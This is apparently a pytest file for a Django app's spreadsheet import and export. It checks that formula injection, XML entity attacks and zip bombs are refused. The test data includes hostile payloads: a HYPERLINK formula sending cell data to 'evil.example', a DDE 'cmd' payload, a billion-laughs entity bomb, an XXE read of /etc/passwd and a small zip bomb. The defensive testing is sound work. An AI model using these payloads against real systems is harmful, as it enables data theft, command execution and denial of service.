"""Issue 15, "exports and imports are safe": no formula ever reaches a sheet, a workbook that
unpacks too large or declares XML entities is refused before it is parsed, each cell is bounded
by its field, and the preview lists every error of a row."""

import datetime
import io
import zipfile

import pytest
from django.urls import reverse

from core.excel import xlsx_bytes
from exchange import reading
from exchange.importing import importable_columns
from exchange.sheets import Kind
from projects.models import Milestone, Problem, Project
from projects.services.execution import milestone_create, problem_create
from tests.exchange.test_import import _preview, _stored_files, _upload
from tests.exchange.workbooks import xlsx

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?c="&B2,"详情")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("kind", [Kind.MILESTONES, Kind.PROBLEMS])
def test_exported_text_is_never_a_formula(client, office_staff, portfolio, kind):
    project = Project.objects.get(code="P01")
    for number, text in enumerate(INJECTIONS):
        milestone_create(
            project=project, by=office_staff, title=f"{text}{number}", planned_date=datetime.date(2015, 6, 30)
        )
        problem_create(project=project, by=office_staff, title=f"{text}{number}")
    client.force_login(office_staff)
    response = client.get(reverse("exchange:export", args=[kind.value]))
    assert response.status_code == 200
    sheet = _sheet_xml(response.content)
    assert "<f>" not in sheet and "<f " not in sheet
    assert "=cmd|" in sheet  # written, as text


def test_stored_control_characters_do_not_break_the_export(client, office_staff, world):
    Problem.objects.filter(pk=world["problem"].pk).update(title="旧数据\x01\x0b标题")
    client.force_login(office_staff)
    response = client.get(reverse("exchange:export", args=[Kind.PROBLEMS.value]))
    assert response.status_code == 200
    assert "旧数据标题" in _sheet_xml(response.content)


def test_imported_formula_text_exports_as_text_again(client, office_staff, portfolio):
    client.force_login(office_staff)
    # Written the way our export writes it: a text cell, as Excel keeps text typed with a quote.
    content = xlsx_bytes(
        title="Sheet",
        headers=[str(column.label) for column in importable_columns(Kind.MILESTONES)],
        rows=[["P01", "=cmd|' /C calc'!A0", "2015-06-30", "", "", "", 1, ""]],
    )
    location, preview = _preview(client, content, kind=Kind.MILESTONES)
    assert preview.context["plan"].errors == []
    assert client.post(location).status_code == 302
    assert Milestone.objects.filter(title="=cmd|' /C calc'!A0").exists()
    exported = client.get(reverse("exchange:export", args=[Kind.MILESTONES.value])).content
    assert "<f>" not in _sheet_xml(exported)


def _with_part(content: bytes, name: str, data: bytes, *, replace: str | None = None) -> bytes:
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as source,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            body = source.read(item.filename)
            if item.filename == replace:
                body = data
            target.writestr(item.filename, body)
        if replace is None:
            target.writestr(name, data)
    return buffer.getvalue()


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>
<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&lol2;</t></si></sst>"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">
<c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row></sheetData></worksheet>"""


@pytest.mark.parametrize(
    "part, data",
    [
        ("xl/sharedStrings.xml", BILLION_LAUGHS),
        ("xl/worksheets/sheet1.xml", XXE),
        ("xl/worksheets/sheet1.xml", XXE.decode().encode("utf-16")),
    ],
    ids=["billion-laughs", "xxe", "xxe-utf16"],
)
def test_xml_entity_declarations_are_refused_before_parsing(
    client, office_staff, portfolio, _media_root, part, data
):
    base = xlsx([["P01", "项目"]], kind=Kind.PROJECTS)
    replace = part if part == "xl/worksheets/sheet1.xml" else None
    content = _with_part(base, part, data, replace=replace)
    client.force_login(office_staff)
    response = _upload(client, content)
    assert response.status_code == 400
    assert "DOCTYPE" in response.content.decode()
    assert _stored_files(_media_root) == []


def test_a_workbook_that_unpacks_too_large_is_refused(
    client, office_staff, portfolio, _media_root, monkeypatch
):
    monkeypatch.setattr(reading, "MAX_UNPACKED_BYTES", 1024 * 1024)
    content = _with_part(
        xlsx([["P01", "项目"]], kind=Kind.PROJECTS), "xl/media/big.bin", b"\0" * (2 * 1024 * 1024)
    )
    assert len(content) < 50_000  # small on disk, large unpacked: a zip bomb in miniature
    client.force_login(office_staff)
    response = _upload(client, content)
    assert response.status_code == 400
    assert "MB" in response.content.decode()
    assert _stored_files(_media_root) == []


def test_a_cell_longer_than_its_field_is_an_error_and_shown_cut(client, office_staff, portfolio):
    client.force_login(office_staff)
    huge = "长" * 200_000
    content = xlsx([["P01", huge, "2015-06-30", "", "", "", 1, ""]], kind=Kind.MILESTONES)
    _location, preview = _preview(client, content, kind=Kind.MILESTONES)
    errors = preview.context["plan"].errors
    assert [error.column for error in errors] == ["里程碑"]
    assert "200" in errors[0].reason
    assert len(preview.content) < 100_000


def test_the_preview_lists_every_error_of_a_row(client, office_staff, portfolio):
    client.force_login(office_staff)
    content = xlsx(
        [["P01", "长" * 300, "9999-12-31", "", "已完成", "", 0, ""]],
        kind=Kind.MILESTONES,
    )
    _location, preview = _preview(client, content, kind=Kind.MILESTONES)
    columns = {error.column for error in preview.context["plan"].errors}
    assert {"里程碑", "计划日期", "实际日期", "权重"} <= columns, columns
